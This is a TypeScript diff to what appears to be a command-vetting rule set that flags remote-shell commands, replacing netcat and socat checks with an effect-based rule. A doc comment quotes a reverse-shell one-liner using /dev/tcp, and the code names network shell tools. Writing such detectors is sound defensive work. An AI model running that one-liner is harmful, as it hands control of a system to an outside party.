@@ -1,9 +1,15 @@
 import type { Invocation, Stream, Unread } from '../../../shell/invocation';
-import { readOptions } from '../../../shell/options';
 import { shellNames } from '../../../programs/shells';
 import { streamIn } from '../../../shell/reader/words';
-import { readCommand } from '../../../shell/read-command';
-import { objection, written, type InvocationRule, type LineRule, type Objection } from './rule';
+import {
+  effectRule,
+  objection,
+  written,
+  type EffectRule,
+  type InvocationRule,
+  type LineRule,
+  type Objection,
+} from './rule';
 
 const way = 'Download it to a file inside the project, read it, and let the person decide whether to run it.';
 
@@ -44,43 +50,9 @@ export const foreignCodeRule: LineRule = {
   },
 };
 
-/** Is this command line, given to a network program, a shell for whoever connects? */
-function opensShell(text: string): boolean {
-  const { invocations } = readCommand(text, { cwd: '/', home: '/' });
-  return invocations.some(
-    (invocation) =>
-      invocation.program !== undefined &&
-      shellNames.has(invocation.program) &&
-      !invocation.args.some((word) => /^-[a-z]*c$/.test(word.text)),
-  );
-}
-
 const shellWay = 'Nothing in a project needs a shell for the network; ask the person.';
 
-function netcatShell(invocation: Invocation): Objection | undefined {
-  const read = readOptions(invocation.args, {
-    short: 'ceiIopqswxX',
-    long: ['exec', 'sh-exec', 'source-port', 'source', 'wait', 'idle-timeout', 'proxy'],
-  });
-  const command = read.value('-e', '-c', '--exec', '--sh-exec');
-  const connects = read.operands.length > 0 || read.has('-l', '--listen', '-p');
-  if (command === undefined || !connects || !opensShell(command.text)) return undefined;
-  return objection(written(invocation), 'It hands a shell to whoever is at the other end of the network.', shellWay);
-}
-
-function socatShell(invocation: Invocation): Objection | undefined {
-  const addresses = invocation.args.filter((word) => !word.text.startsWith('-'));
-  const network = addresses.some((word) =>
-    /^(?:tcp|udp|openssl|ssl|sctp|dccp|proxy|socks|quic|vsock)\w*(?:-\w+)*:/i.test(word.text),
-  );
-  const shell = addresses.some((word) => {
-    const command = /^(?:exec|system|shell):([^]*)$/i.exec(word.text)?.[1];
-    return command !== undefined && opensShell(command.replace(/,[\w=,-]*$/, ''));
-  });
-  return network && shell
-    ? objection(written(invocation), 'It hands a shell to whoever is at the other end of the network.', shellWay)
-    : undefined;
-}
+const shellWhy = 'It hands a shell to whoever is at the other end of the network.';
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`. */
 function redirectedShell(invocation: Invocation): Objection | undefined {
@@ -93,15 +65,17 @@ function redirectedShell(invocation: Invocation): Objection | undefined {
       redirect.operator === '<>' ||
       (redirect.fd === '0' && redirect.operator === '<&'),
   );
-  return connected && reads
-    ? objection(written(invocation), 'It hands a shell to whoever is at the other end of the network.', shellWay)
-    : undefined;
+  return connected && reads ? objection(written(invocation), shellWhy, shellWay) : undefined;
 }
 
 export const remoteShellRules: readonly InvocationRule[] = [
-  { id: 'remote-shell', level: 'standard', programs: ['nc', 'ncat', 'netcat'], check: netcatShell },
-  { id: 'remote-shell', level: 'standard', programs: ['socat'], check: socatShell },
   { id: 'remote-shell', level: 'standard', programs: [...shellNames], check: redirectedShell },
+];
+
+export const remoteShellEffectRules: readonly EffectRule[] = [
+  effectRule('remote-shell', 'send', ({ shell }, invocation) =>
+    shell === true ? objection(written(invocation), shellWhy, shellWay) : undefined,
+  ),
 ];
 
 /** Code that nobody can see from here: only `strict` stops at it, auto-review never approves it. */
